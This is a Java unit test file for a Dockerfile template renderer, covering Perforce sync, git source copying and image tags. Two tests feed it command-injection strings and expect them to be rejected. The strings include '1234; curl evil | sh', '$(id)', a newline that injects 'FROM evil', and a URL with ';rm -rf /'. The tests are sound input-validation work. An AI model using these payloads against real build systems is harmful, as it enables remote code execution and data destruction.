package io.a4c.daemon.builds;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.a4c.daemon.registry.ImageRepository;
import io.a4c.events.Arch;
import io.a4c.events.BuildJob;
import io.a4c.events.BuildKind;
import io.a4c.events.BuildSource;
import io.a4c.events.BuildSpec;
import io.a4c.events.EventJson;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class DockerfileTemplateTest {
  private final DockerfileTemplate template = new DockerfileTemplate(EventJson.newMapper());

  private static BuildJob job(BuildSource source, List<String> tools, List<String> setup) {
    return BuildJob.of(
        "bs-01jd0000000000000000000000",
        "alice",
        BuildKind.USER,
        "kernel",
        "main",
        Arch.AMD64,
        "1234",
        new BuildSpec("a4c-base:bookworm", tools, setup, source),
        Instant.parse("2026-11-24T16:00:00Z"));
  }

  @Test
  void perforceProjectsSyncTheirDepotPathAtTheChangeInTheDockerfile() {
    String dockerfile =
        template.render(
            job(BuildSource.perforce("//depot/kernel/main/..."), List.of("curl", "vim"), List.of()),
            "1234",
            null);

    assertThat(dockerfile)
        .startsWith("# Rendered by the A4C builder")
        .contains("\nFROM a4c-base:bookworm\n")
        .contains(
            "\nRUN apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends curl vim && rm -rf /var/lib/apt/lists/*\n")
        .contains("\nARG P4PORT\nARG P4USER\nARG P4CLIENT\nWORKDIR /src\n")
        .contains("\nRUN [\"p4\",\"sync\",\"//depot/kernel/main/...@1234\"]\n")
        .doesNotContain("COPY src/");
  }

  @Test
  void thePerforceSyncCommandLineIsTheDepotPathAtTheChangeOrAtHead() {
    var source = BuildSource.perforce("//depot/kernel/main/...");
    assertThat(DockerfileTemplate.perforceSync(source, "1234"))
        .containsExactly("p4", "sync", "//depot/kernel/main/...@1234");
    assertThat(DockerfileTemplate.perforceSync(source, DockerfileTemplate.HEAD))
        .containsExactly("p4", "sync", "//depot/kernel/main/...#head");
  }

  @Test
  void gitProjectsCopyTheCheckedOutSourcesAndSetupStepsRunInExecForm() {
    String dockerfile =
        template.render(
            job(
                BuildSource.git("file:///srv/git/kernel.git"),
                List.of(),
                List.of("echo \"welcome\" > /etc/motd", "make -C /src all")),
            "1234",
            "0123456789abcdef0123456789abcdef01234567");

    assertThat(dockerfile)
        .contains(
            "# Sources: file:///srv/git/kernel.git checked out at 0123456789abcdef0123456789abcdef01234567 by the builder.\nCOPY src/ /src/\n")
        .contains("\nRUN [\"/bin/sh\",\"-c\",\"echo \\\"welcome\\\" > /etc/motd\"]\n")
        .contains("\nRUN [\"/bin/sh\",\"-c\",\"make -C /src all\"]\n")
        .doesNotContain("apt-get")
        .doesNotContain("p4 ");
    assertThat(dockerfile.indexOf("COPY src/")).isLessThan(dockerfile.indexOf("make -C"));
  }

  @Test
  void refusesShellCharactersInTheChangeEvenWhenTheJobWasMadeElsewhere() {
    var job = job(BuildSource.perforce("//depot/kernel/main/..."), List.of(), List.of());
    assertThatThrownBy(() -> template.render(job, "1234; curl evil | sh", null))
        .hasMessageContaining("change");
    assertThatThrownBy(() -> template.render(job, "$(id)", null)).hasMessageContaining("change");
  }

  @Test
  void aSpecWithShellCharactersCannotEvenBeMade() {
    var source = BuildSource.perforce("//depot/kernel/main/...");
    assertThatThrownBy(
            () ->
                new BuildSpec("a4c-base:bookworm", List.of("vim && curl evil"), List.of(), source))
        .hasMessageContaining("tools");
    assertThatThrownBy(
            () -> new BuildSpec("a4c-base:bookworm", List.of(), List.of("echo a \\"), source))
        .hasMessageContaining("setup");
    assertThatThrownBy(
            () ->
                new BuildSpec("a4c-base:bookworm", List.of(), List.of("echo a\nFROM evil"), source))
        .hasMessageContaining("setup");
    assertThatThrownBy(() -> BuildSource.perforce("//depot/`id`/..."))
        .hasMessageContaining("depotPath");
    assertThatThrownBy(() -> BuildSource.git("https://x/y.git;rm -rf /"))
        .hasMessageContaining("url");
  }

  @Test
  void imagesGoToTheOneRepositoryTaggedByProjectParentArchAndChange() {
    var job = job(BuildSource.perforce("//depot/kernel/main/..."), List.of(), List.of());
    assertThat(
            BuildRunner.imageRef(ImageRepository.parse("10.250.0.1:5000/a4c-images"), job, "1234"))
        .isEqualTo("10.250.0.1:5000/a4c-images:kernel_main_amd64_1234");
  }
}
